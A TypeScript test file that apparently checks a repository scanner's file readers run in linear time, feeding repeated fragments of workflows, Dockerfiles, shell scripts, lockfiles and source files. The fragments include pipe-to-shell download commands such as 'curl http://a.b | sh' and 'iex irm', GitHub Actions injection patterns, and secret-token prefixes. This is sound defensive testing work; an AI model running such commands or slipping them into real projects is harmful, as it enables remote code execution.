import { expect, test } from 'vitest';
import type { FileFacts } from '../check.ts';
import { CHECKS } from '../checks.ts';
import { parseConfiguration } from '../configuration.ts';
import { LARGEST_BLOB } from '../object-reader.ts';
import { ReadingPlans } from '../reading-plan.ts';
import { TreePaths } from '../tree-paths.ts';
import { ENDED, within } from '../within.ts';
import { importCyclesJs } from './import-cycles-js.ts';

/** Milliseconds of this thread's own compute time: however slow, a linear reader takes less. */
const FAST = 100;
/** From 20 to 80 KB, a linear reader takes 4 times as long, a quadratic one 16 times. */
const [SMALL, LARGE] = [20 * 1024, 80 * 1024];
const MOST_GROWTH = 10;
/** Milliseconds after which reading is ended. */
const TOO_LONG = 30_000;

const NO_PATHS = new TreePaths();

const ANY = [
  ...Array.from(' \n\ta0.,:;=\'"`/\\()[]{}<>#-_*&!?|@$'),
  '\r\n',
  '\\\n',
  'é',
  '\u2028',
  '😀',
];
/** What is repeated; a pair: behind a beginning. Or the whole text, of so many characters. */
type Hostile = string | readonly [begin: string, repeated: string] | ((size: number) => string);

const half = (size: number, text: string): string => text.repeat(size / 2 / text.length);

/** By the file that holds it: a file of every kind that a check reads. The tests in it are data, too. */
const TEXTS: Readonly<Record<string, readonly Hostile[]>> = {
  '.github/workflows/a.yml': [
    '"',
    ']',
    '[',
    '\n',
    ' ',
    'a: ',
    ' a:\n',
    '- ',
    '- a\n',
    '[a]\n',
    '[{',
    '"a" ',
    "'\n",
    '? ',
    '&a ',
    '*a ',
    '!a ',
    '- &a a\n',
    '<<: *a\n',
    '| ',
    '---\n',
    '%a\n',
    '#\n',
    'jobs:\n a:\n  steps:\n  - uses: b\n',
    ...['${{', "${{ '", '${{ github.head_ref }}\n', '${{ a || ', '${{ toJSON(github) }} ', '$'].map(
      (each): Hostile => ['on: pull_request\njobs:\n a:\n  steps:\n  - run: |\n', `     ${each}`],
    ),
    ['on: [pull_request', ', push'],
    ['jobs:\n a:\n  steps:\n  - run: |\n', '     curl http://a.b | sh\n'],
    [
      'on: issue_comment\njobs:\n a:\n  steps:\n  - run: |\n',
      '     gh pr checkout ${{ github.event.number }}',
    ],
    ['jobs:\n a:\n  steps:\n', '  - run: curl http://a.b | sh\n'],
    // The same script over and over.
    (size) =>
      `on: push\njobs:\n a: &a\n  steps:\n  - run: |\n${half(size, '     ${{ toJSON(github) }}\n')}${half(size, ' a: *a\n')}`,
    ['- &a b\n', '- *a\n'],
    (size) => `jobs:\n a: &a\n  steps:\n${half(size, '  - b\n')}${half(size, ' a: *a\n')}`,
  ],
  'action.yml': ['runs:\n steps:\n', '- uses: a\n', '- *a\n'],
  'compose.yaml': [
    'services:\n a:\n  image: b\n',
    'a: {image: ${a:-',
    '- *a\n',
    ['services:\n a: &a\n  <<:\n', '  - *a\n'],
    ['services:\n a: &a\n', '  <<: *a\n'],
    // Each service merges the one before.
    (size) =>
      `services:\n${Array.from({ length: size / 25 }, (_, at) => ` a${at}: &a${at}\n  <<: *a${at - 1}\n`).join('')}`,
  ],
  Dockerfile: [
    ...ANY,
    'FROM a\n',
    'FROM a AS b\n',
    'FROM 0\n',
    'FROM ',
    'FROM --a ',
    '--a=',
    '${a:-',
    '$a',
    'ARG a=b\n',
    'ENV a=$a$a\n',
    'COPY --from=a ',
    'COPY --from=a:b c\n',
    'USER $a\n',
    'RUN <<a\n',
    'RUN <<a\na\n',
    'RUN <<a <<b\n',
    '<<a ',
    'RUN \\\n',
    ' \\\n',
    'RUN curl http://a.b | sh\n',
    ['RUN curl http://a.b | sh', ' \\\n | sh'],
    '# a\n',
    ['RUN \\\n', '\\\n'],
    ['ARG ', 'a'],
    ['FROM ', '${a:-'],
    ['RUN', ' '],
    // Each stage has the variables of the one before.
    (size) =>
      `FROM a\n${Array.from({ length: size / 50 }, (_, at) => `ENV a${at}=b\nARG c${at}=d\n`).join('')}FROM 0\n${Array.from({ length: size / 50 }, (_, at) => `FROM ${at}\n`).join('')}`,
  ],
  'a.sh': [
    ...ANY,
    '"',
    "'",
    '`',
    '$(',
    '<(',
    '${',
    '${{',
    '(',
    ')',
    '#',
    '\\',
    '|',
    '|\n',
    '&',
    '<',
    '<<',
    '<<<',
    '\n',
    '<<a ',
    '<<a\n',
    '<<a\na\n',
    '<<-a\n\ta\n',
    '"$(',
    '"`',
    'a=b ',
    'sudo ',
    '-u ',
    '| sh ',
    'curl http://a.b | sh\n',
    'curl http://a.b | ',
    'curl http://a.',
    'curl http://a/',
    'sh <(curl ',
    'sh -c "$(curl http://a.b)"\n',
    'curl "',
    "curl '\n",
    'curl -k ',
    'curl http://a.b `',
    'iex irm http://a.b\n',
    'iex irm http://a.b ',
    'iex ',
    'irm | iex',
    'iex #',
    'iex http://',
    ['curl http://a.b', ' | sh'],
    ['eval ', '$(curl http://a.b)'],
    ['eval ', ' $(curl http://a.b)'],
    (size) => Array.from({ length: size / 25 }, (_, at) => `curl http://a.b/${at} | sh\n`).join(''),
  ],
  Makefile: [
    ...ANY,
    '\t',
    '\\\n',
    '\tcurl http://a.b | sh\n',
    '\tcurl \\\n',
    ['\tcurl', ' \\\n | sh'],
  ],
  'package.json': [...ANY, '{"a":', '"a":"b",', '\\"', '[{'],
  'package-lock.json': [
    ...ANY,
    '{"packages":{"":',
    '"a":"b",',
    '[{',
    (size) => `{"packages":{"":{"${half(size, 'a')}":{${half(size, '"a":1,')}"b":1}}}}`,
  ],
  'pnpm-lock.yaml': [
    ...ANY,
    '---\n',
    'packages:\n',
    'a:\n',
    ['importers:\n', '  a:\n    specifiers: {}\n'],
    ['overrides:\n', '  a@1>b@2: 1\n'],
    ['overrides:\n  ', 'a>'],
    ['overrides:\n  ', '@a/'],
    (size) => `overrides:\n  ${half(size, 'a')}>: 1\n  ${half(size, '@')}/: 1\n`,
  ],
  'yarn.lock': [
    ...ANY,
    '"a@1", ',
    ['__metadata:\n', '  resolution: "a@workspace:."\n  dependencies:\n'],
    ['__metadata:\n  resolution: "', '@workspace:'],
    ['__metadata:\n  resolution: "@workspace:."\n  dependencies:\n', '    a: b\n'],
    ['__metadata:\n  resolution: "@workspace:."\n  dependencies:\n    a: "npm:', '@'],
  ],
  'Cargo.toml': [
    ...ANY,
    'a = [\n',
    'a = {',
    'a = "\n',
    'a = """\n',
    "a = '",
    'a = b\n',
    'a."',
    '"\\"',
    '[a]\n',
    '[[',
    '[dependencies]\na = {',
    'a = { package = "',
    '{ workspace',
    '#"',
    '"" ',
    "'' ",
    'a.',
    ']\n',
    (size) => `[dependencies.${half(size, 'a')}]\n${half(size, 'a=1\n')}`,
    ['a', ' '],
    ['[workspace]\nmembers = [', '"a*",'],
    ['[workspace]\nmembers = [', "'\\"],
    ['[workspace]\nmembers = [', '"\\'],
  ],
  'Cargo.lock': ['[[package]]\nname = "a"\n', 'name = [\n'],
  'bun.lock': [
    ...ANY,
    '//',
    '/*',
    ',}',
    (size) => `{"workspaces":{"":{"${half(size, 'a')}":{${half(size, '"a":1,')}}}}}`,
    (size) => `{"workspaces":{"":{"dependencies":{${half(size, ' ')}${half(size, ',')}}}}}`,
  ],
  'pyproject.toml': [
    ...ANY,
    '[project]\ndependencies = [',
    ['[project]\ndependencies = [', "'a>=1,<2; b',\n"],
    ['[project]\ndependencies = [', "'a"],
    ['[project]\ndependencies = [', '"\\'],
    ['[project]\ndependencies = [', '{a = "'],
    ['[project]\ndependencies = ["a', '[]'],
    ['[project]\ndependencies = ["a', ' '],
    ['[project]\ndependencies = ["', '-'],
    ['[dependency-groups]\n', "a = ['b']\n"],
    ['[tool.poetry.dependencies]\n', 'a = { version = "'],
    ['[tool.poetry.dependencies]\n', 'a = [{ version = "1" }]\n'],
  ],
  'uv.lock': [
    ...ANY,
    '[[package]]\nname = "a"\nsource = { virtual = "." }\n',
    ['[[package]]\nname = "a"\n[package.metadata]\nrequires-dist = [', '{ name = "a" },\n'],
    ['[[package]]\nname = "a"\n[package.metadata]\nrequires-dist = [', '{ name = "'],
    ['[[package]]\nname = "a"\n[package.metadata]\nrequires-dist = [', '{'],
    ['[manifest]\nmembers = [', '"a",'],
  ],
  'poetry.lock': ['[[package]]\nname = "a"\n', 'name = [\n'],
  'composer.json': [
    ...ANY,
    '{"require":{',
    (size) => `{"require":{${half(size, '"a/b":"1",')}"c/d":"1"}}`,
    (size) => `{"extra":${half(size, '[')}${half(size, ']')}}`,
    (size) => `{"extra":"${half(size, '/')}${half(size, 'é')}"}`,
  ],
  'composer.lock': [
    (size) => `{"packages":[${half(size, '{"name":"a"},')}{}]}`,
    (size) => `{"content-hash":"${half(size, 'a')}"}`,
  ],
  Gemfile: [
    ...ANY,
    "gem 'a'\n",
    "gem 'a', '1', ",
    "gem 'a', ",
    'group :a do\n',
    'if a\n',
    'a do |b',
    'a = ',
    "gem 'a' if b\n",
    ['gem "a"', ', "b"'],
    ['gem "a"', ' ,'],
    ['gem "a", "', ' '],
    ['gem "a", "', '>'],
  ],
  'Gemfile.lock': [
    ...ANY,
    'DEPENDENCIES\n  a (1)\n',
    ['DEPENDENCIES\n  a (', '1,'],
    ['DEPENDENCIES\n  ', 'a'],
  ],
  'go.mod': [...ANY, 'require (\n', 'require a v1\n', 'replace a', '//', 'a v1\n', '//\u2028'],
  'go.work': [...ANY, 'use (\n', 'use ./a\n', 'replace a', '//', './a\n'],
  'go.sum': [...ANY, 'a b/go.mod h1:\n', 'a /go.mod', '/go.mod h1'],
  'a.ts': [
    ...ANY,
    '\u202e',
    '\u202e\n',
    '\u2069',
    '\u3164',
    '\u{e0041}',
    ['\u202e', '\u2069'],
    (size) => half(size, '\u2066') + half(size, '\u2069'),
    '/[',
    '/a/',
    '= /a',
    '/*',
    '*/',
    '//\n',
    '${',
    '`${',
    '}${',
    '(){',
    '=>{',
    '=>',
    '=>(',
    'a=>a\n',
    '/\\',
    '=/[',
    'import ',
    'import a\n',
    'import {a',
    'import "a";',
    "import './a';",
    'export {a,',
    'export * from',
    'require(',
    "require('./a')",
    'import type ',
    'from',
    ['import {', 'a,'],
    ['x = /', '\\/'],
  ],
  'a.test.ts': [
    ...ANY,
    'it.skip(',
    "it.skip('a', ",
    "it.skip('a', b)\n",
    "describe('a', () => {",
    "describe('a', () => {it.skip('b', c);",
    'it.skip.each`',
    'it.skip.each`${a}`(`${b}`, ',
    'it.skip.each([',
    "it('a', {",
    "it('a', {skip: ",
    "it('a', {skip: 'b'}, c)\n",
    'it.',
    'if (a) {',
    '`${',
  ],
  'a_test.go': [
    ...ANY,
    'func TestA(t *testing.T) {',
    'func TestA(t *testing.T) {t.Skip()\n',
    'func TestA(\n',
    ['func TestA(t *testing.T) {', ' \n'],
    '/*',
    '//\n',
    '"\\',
  ],
  'a.rs': [
    ...ANY,
    '#[ignore]\n',
    '#[ignore]fn a\n',
    '#[ignore',
    ['#[ignore]', '#[a]'],
    ['#[ignore]', ' \n'],
    ['#[ignore]\n', '#[a]'],
    '/*',
    'r#"',
    'br##"a"#',
    "'\\",
    "'a",
  ],
  'ATest.java': [
    ...ANY,
    '@A ',
    '@A(',
    '@A(a)',
    '@Test @Ignore ',
    '@Test(enabled = ',
    '@Test @Ignore void a(',
    '@Test @Ignore public static ',
    '@A\n',
    '@A((a)',
    '"""\n',
    'void a(',
    'fun `a',
  ],
  'ATests.cs': [
    ...ANY,
    '[A]',
    '[A(',
    '[[a]',
    '[A] ',
    '[Fact(Skip = ',
    '[Test, Ignore]\n',
    '[A] public static ',
    '[A] a<',
    '[A] a.',
    '[A] a b<',
    '@"',
    '$"{',
  ],
  'ATest.php': [
    ...ANY,
    'function ',
    'function test',
    'function testA(',
    'function testA() { ',
    'function testA() : ',
    '#[A]',
    '#[Test]',
    '#[Test] function a() { ',
    '<<<A\n',
  ],
  'test_a.py': [
    ...ANY,
    '@pytest.mark.skip\n',
    '@skip\ndef a():\n',
    '@skip(',
    'class A:\n',
    (size) =>
      Array.from({ length: Math.sqrt(size) }, (_, at) => `${' '.repeat(at)}class A:\n`).join(''),
    'if a:\n',
    'pytestmark = [',
    'pytestmark = pytest.mark.skip\n',
    ['from unittest import ', 'a, '],
    'from unittest import a\n',
  ],
  'tsconfig.json': [
    ...ANY,
    '/*',
    '*/',
    '/**/',
    ',}',
    ', ',
    '{"a":',
    '[{',
    ['{"extends":[', '"./a",'],
    ['{"compilerOptions":{"paths":{', '"a*":["b"],'],
    (size) => `{"compilerOptions":{"paths":{"*":[${half(size, '"a",')}${half(size, '1,')}]}}}`,
  ],
  '__init__.py': [
    ...ANY,
    'a = ',
    'a, ',
    '(a=',
    'a: b',
    'a as ',
    'for ',
    'import ',
    'import a\n',
    'import a;',
    'from ',
    'from . ',
    'from a import b\n',
    'a as b,',
    '"""',
    "'''",
    'f"',
    '"" ',
    'def ',
    'if ',
    'if a',
    'elif a.',
    'if TYPE_CHECKING and ',
    'else:',
    'try:',
    '\\\r\n',
    '. ',
    ['from ', ' '],
    ['import a\nfrom ', '.'],
    ['from a', '.a'],
    ['import a', ' '],
    (size) => `from ${half(size, 'a.')}a import ${half(size, 'b,')}b`,
  ],
  '.gitignore': [...ANY, '/a/\n', 'a/b\n', '/*', 'a/*', '/?'],
  'a.md': [
    ...ANY,
    '[a](b.md)',
    '[a](b.md)\n',
    '[a]: b.md\n',
    ...[
      '[a](',
      '[a](<',
      '![',
      '[a',
      '](b.md',
      '](b.md)',
      '[^a]: b.md\n',
      '[a]\n',
      '**a',
      '_a_',
      '<!--',
      '<a',
    ].flatMap((each): Hostile[] => [each, ['[a](b.md)\n', each], ['[a]: b.md\n\n', each]]),
    ['[a](b.md)\n\n', '- '],
    ['[a](b.md)\n\n', '> '],
    ['[a](b.md)\n\n', '|a'],
    ['[a](b.md)\n\n|a|\n|-|\n', '|[a](b.md)|\n'],
    ['---\n', '---'],
    ['---\n', '---\n'],
    '[a](b\\.md)\n',
    // Each heading and each link is another one.
    (size) =>
      Array.from({ length: size / 40 }, (_, at) => `# a ${at} <b> :c:\n\n[d](#a-e-${at})\n\n`).join(
        '',
      ),
    // Documents without links: their headings are read all the same.
    '# a ',
    '# ![',
    '# [a](',
    '# <a',
    '# &a',
    '# :a',
    '# {#a',
    '> ',
    '- 1. ',
    '<h1',
    'id="',
    'name=a ',
    ...['{#', '{{', '(a', '::: a', '<A', 'import ', '```'].flatMap((each) => [each, `${each}\n`]),
    '# a\n',
    '> # a\n',
    '<h1>a\n',
    '(a)=\n',
    ':name: a\n',
    '```@a\n',
    'a\n===\n',
    'title: a\n',
  ],
  'a.txt': [
    ...ANY,
    '<<<<<<< a\n',
    '=======\n',
    '>>>>>>> a\n',
    '<<<<<<< a\n=======\n>>>>>>> a\n',
    // Put together here, so that this file holds no text of a secret's shape itself.
    ...['-----BEGIN ', 'PRIVATE KEY-----', '-----END', '\\n'].map((part) => `${part}\n`),
    ...['', 'RSA '].map((kind) => `-----BEGIN ${kind}PRIVATE KEY-----\n`),
    'AKIA',
    'ghp_',
    'github_pat_',
    'glpat-',
    'xoxb-',
    'xoxb-1',
    'sk_live_',
    'AIza',
    'npm_',
    'SG.',
    ['-----BEGIN PRIVATE KEY-----', '\n'],
    ['-----BEGIN PRIVATE KEY-----\n', 'a\\n'],
    ['xoxb-123456', '7'],
    ['sk_live_', 'a'],
  ],
};

/** What makes a reader read on: some look for a word first. */
const BEGINNINGS: Readonly<Record<string, string>> = {
  'a.ts': "import './b';\n",
  '__init__.py': 'import b\n',
  'a.test.ts': "it.skip('a', b);\n",
  'a_test.go': 'func TestB(t *testing.T) {\n\tt.Skip()\n}\n',
  'a.rs': '#[ignore]\nfn b() {}\n',
  'ATest.java': '@Test @Disabled void a() {}\n',
  'ATests.cs': '[Fact(Skip = "a")] public void A() {}\n',
  'ATest.php': '<?php function testA() { $this->markTestSkipped(); }\n',
  'test_a.py': '@pytest.mark.skip\ndef b():\n  pass\n',
  'a.sh': 'curl iex\n',
  Makefile: '\tcurl iex\n',
  'a.txt': 'npm_\n<<<<<<< a\n',
};

const plans = new ReadingPlans(CHECKS);
const readers = Object.entries(TEXTS).map(([path, texts]) => {
  const parts = plans.planOf(path)?.parts ?? [];
  // Checks of the same files read them alike.
  const readers = new Map(parts.map((part) => [part.check.extract, part]));
  const read = (repeated: string): void => {
    const text = (BEGINNINGS[path] ?? '') + repeated;
    for (const { check, kind } of readers.values()) {
      check.evaluate(new Map([[path, check.extract(kind, text)]]), NO_PATHS);
    }
  };
  return { path, texts, parts, read };
});

test('every check is among those that are tried here', () => {
  const tried = new Set(readers.flatMap(({ parts }) => parts.map(({ check }) => check)));
  expect([...tried].toSorted((a, b) => (a.key < b.key ? -1 : 1))).toEqual(CHECKS);
});

test('a file of as many things as its bound allows can be read', () => {
  const python = readers.find(({ path }) => path === '__init__.py');
  expect(() => python?.read(`import ${'a,'.repeat(500_000)}a`)).not.toThrow();
  // Put together here, so that this file holds no text of a secret's shape itself.
  const secret = ['np', 'm_q7Zr2Lw9Xk4Tn8Vb3Mc6Pd1Hs5Jf0Gy9QaWe\n'].join('');
  const text = readers.find(({ path }) => path === 'a.txt');
  expect(() => text?.read(secret.repeat(150_000))).not.toThrow();
  const cargo = readers.find(({ path }) => path === 'Cargo.toml');
  const texts = [
    ...['a', 'a.', '""'].map((each) => each.repeat(LARGEST_BLOB / each.length)),
    `[dependencies]\na="${'a'.repeat(LARGEST_BLOB - 19)}"`,
  ];
  for (const each of texts) expect(() => cargo?.read(each)).not.toThrow();
});

test.each([
  ...readers,
  {
    path: '.docket/config.yaml',
    texts: ['checks:\n', 'a: b\n', '- *a\n', ['environments:\n', ' - a\n']] as const,
    read: (text: string): unknown => parseConfiguration(text, ['secrets']),
  },
])('reading $path takes time proportional to its size', { timeout: 120_000 }, ({ texts, read }) => {
  const tooFast = texts.filter((text) => growsTooFast(read, (size) => textOf(text, size)));
  expect(tooFast.map(String)).toEqual([]);
});

type Files = [path: string, text: string][];

const numbered = <Each>(size: number, each: (at: number) => Each): Each[] =>
  Array.from({ length: size }, (_, at) => each(at));

/** 10,000 modules in the large trees, each in a folder of its own. */
const modulesOf = (size: number): Files =>
  numbered(size / 8, (at) => [`${at}/a.ts`, `import '@${at}/${at}';\n`]);

/** A config of 1,000 patterns there. */
const patternsOf = (size: number, pattern: (at: number) => string): Files => {
  const paths = numbered(size / 80, (at) => `"${pattern(at)}":["./*","./b/*"]`);
  return [['tsconfig.json', `{"compilerOptions":{"paths":{${paths.join(',')}}}}`]];
};

/** 5,000 configs there, in folders of modules. */
const configsOf = (size: number, extended: (at: number) => string[]): Files =>
  numbered(size / 16, (at) => [
    `${at}/tsconfig.json`,
    JSON.stringify({ extends: extended(at), references: [{ path: `../${at * 2}` }] }),
  ]);

test.each<[name: string, configs: (size: number) => Files]>([
  ['patterns', (size) => patternsOf(size, (at) => `@${at}/*`)],
  [
    'patterns that begin each other',
    (size) => patternsOf(size, (at) => `@${String(at).repeat(1 + (at % 30))}*`),
  ],
  [
    'configs that extend one',
    (size) => [...patternsOf(size, (at) => `@${at}/*`), ...configsOf(size, () => ['../tsconfig'])],
  ],
  [
    'configs that extend each other in a chain',
    (size) => configsOf(size, (at) => [`../${at + 1}/tsconfig`]),
  ],
  [
    'configs that extend each other in circles',
    (size) =>
      configsOf(size, (at) => [1, 2, 3, 5].map((by) => `../${(at * by + 1) % 999}/tsconfig`)),
  ],
])('following imports in a tree of many %s takes time proportional to it', (_name, configs) => {
  const filesOf = (size: number): FileFacts<unknown> =>
    new Map(
      [...configs(size), ...modulesOf(size)].map(([path, text]) => {
        const kind = importCyclesJs.kindOf(path) ?? '';
        return [path, importCyclesJs.extract(kind, text)];
      }),
    );
  expect(
    growsTooFast((files: FileFacts<unknown>) => importCyclesJs.evaluate(files, NO_PATHS), filesOf),
  ).toBe(false);
});

function growsTooFast<Input>(
  read: (input: Input) => unknown,
  inputOf: (size: number) => Input,
): boolean {
  const grows = () => {
    const time = timeOf(read, inputOf(LARGE));
    return time > FAST && time > timeOf(read, inputOf(SMALL)) * MOST_GROWTH;
  };
  // Once more, should something else have come between.
  return grows() && grows();
}

/** Milliseconds of compute time; reading that takes far too long is ended. */
function timeOf<Input>(read: (input: Input) => unknown, input: Input): number {
  const begin = process.threadCpuUsage();
  if (within(TOO_LONG, () => read(input)) === ENDED) return Infinity;
  return process.threadCpuUsage(begin).user / 1000;
}

function textOf(hostile: Hostile, size: number): string {
  if (typeof hostile === 'function') return hostile(size);
  const [begin, repeated] = typeof hostile === 'string' ? ['', hostile] : hostile;
  return begin + repeated.repeat(size / repeated.length);
}
